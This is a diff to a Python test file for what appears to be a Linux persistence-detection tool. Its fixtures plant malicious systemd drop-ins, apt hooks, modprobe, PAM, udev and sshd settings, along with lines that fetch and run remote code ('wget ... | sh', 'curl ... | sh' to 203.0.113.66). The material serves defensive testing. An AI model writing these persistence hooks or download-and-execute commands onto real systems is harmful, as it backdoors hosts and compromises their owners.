@@ -40,6 +40,11 @@ PLANTS = {
     "/var/spool/cron/atjobs/a00001": "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\n/tmp/x\n",
     "/etc/systemd/system/upd.service": "[Service]\nExecStart=/bin/sh -c 'wget -O- http://203.0.113.66|sh'\n",
     "/etc/systemd/system/cron.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
+    "/etc/systemd/system.control/cron.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
+    "/run/systemd/system/cron.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
+    "/usr/lib/systemd/system/cron.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
+    "/etc/systemd/user/x.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
+    "/etc/systemd/system/service.d/x.conf": '[Service]\nEnvironment="PATH=/tmp:/usr/bin"\n',
     "/home/carol/.config/systemd/user/x.service": "[Service]\nExecStart=/tmp/x\n",
     "/srv/carla/.config/systemd/user/x.service": "[Service]\nExecStart=/tmp/x\n",
     "/srv/carla/.config/autostart/x.desktop": "[Desktop Entry]\nExec=/tmp/x\n",
@@ -61,6 +66,12 @@ PLANTS = {
     "/etc/udev/rules.d/99-x.rules": 'ACTION=="add", RUN+="/dev/shm/x"\n',
     "/etc/pam.d/sshd": "auth optional pam_exec.so expose_authtok /tmp/x\n",
     "/etc/apt/apt.conf.d/99x": 'APT::Update::Pre-Invoke {"curl http://203.0.113.66/x|sh";};\n',
+    "/etc/apt/apt.conf.d/98x": 'Acquire::http::Proxy-Auto-Detect "/tmp/x";\n',
+    "/etc/apt/apt.conf.d/97x": 'Dir::Bin::dpkg "/tmp/x";\n',
+    "/usr/lib/modprobe.d/x.conf": "install usb_storage /tmp/x\n",
+    "/usr/lib/NetworkManager/dispatcher.d/x": "#!/bin/sh\n/tmp/x\n",
+    "/etc/ssh/sshd_config.d/x.conf": "AuthorizedKeysCommand /tmp/x %u\n",
+    "/etc/ssh/sshd_config.d/y.conf": "Subsystem sftp /dev/shm/x\n",
     "/etc/modprobe.d/x.conf": "install usb_storage /tmp/x\n",
     "/root/.gitconfig": "[core]\n\tpager = /tmp/x\n",
     "/etc/update-motd.d/99-x": "#!/bin/sh\n/var/tmp/x\n",
@@ -117,7 +128,8 @@ def test_settings_that_lead_to_others_which_are_not_read(tmp_path: Path, path: s
 
 def test_settings_that_lead_to_the_usual_others(tmp_path: Path) -> None:
     put(clean(tmp_path), "/etc/sudoers", "#includedir /etc/sudoers.d\n@includedir /etc/sudoers.d\n")
-    put(tmp_path, "/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\n")
+    usual = "Include /etc/ssh/sshd_config.d/*.conf\nSubsystem sftp /usr/lib/openssh/sftp-server -l INFO\n"
+    put(tmp_path, "/etc/ssh/sshd_config", usual)
     put(
         tmp_path,
         "/etc/pam.d/common-auth",
